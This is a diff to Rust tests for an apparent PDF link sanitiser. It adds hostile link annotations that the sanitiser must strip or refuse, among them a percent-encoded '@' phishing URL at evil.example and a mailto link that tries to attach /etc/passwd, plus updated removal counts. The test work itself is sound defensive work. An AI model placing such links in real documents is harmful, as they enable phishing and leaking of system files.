@@ -353,6 +353,8 @@ fn web_links_stay_where_the_policy_keeps_them() {
         "/S/URI/URI(javascript:alert)",
         "/S/URI/URI(file://host/share)",
         "/S/URI/URI(https://bank.example@evil.example/)",
+        "/S/URI/URI(https://bank.example%40evil.example/)",
+        "/S/URI/URI(mailto:a@evil.example?attach=/etc/passwd)",
         "/S/URI/URI(\\\\\\\\host\\\\share)",
         "/S/GoToR/F(http://evil.example/x.pdf)",
         "/S/Launch/F(https://evil.example)",
@@ -375,11 +377,11 @@ fn web_links_stay_where_the_policy_keeps_them() {
         .filter(|line| line.what == What::Link)
         .map(|line| line.count)
         .sum();
-    assert_eq!(links, 5, "{:?}", report.removed);
+    assert_eq!(links, 7, "{:?}", report.removed);
 
     let (without, report) = rebuilt(&input);
     assert!(!String::from_utf8_lossy(&without).contains("/Annot"));
-    assert!(report.removed.iter().any(|line| line.count == 6));
+    assert!(report.removed.iter().any(|line| line.count == 8));
 }
 
 #[test]
@@ -403,6 +405,8 @@ fn a_link_that_is_no_web_address_of_ours_is_refused() {
         ("https://exampl", "javascript:abc"),
         ("https://e", "file:////"),
         ("example.lg", "a@evil..lg"),
+        ("example.lg", "a%40evl.lg"),
+        ("https://example.lg.jp/ab", "mailto:a@b?attach=/etc/p"),
         ("https://example", "https:///xample"),
         ("/S/URI", "/S/Win"),
         ("/Link", "/Text"),
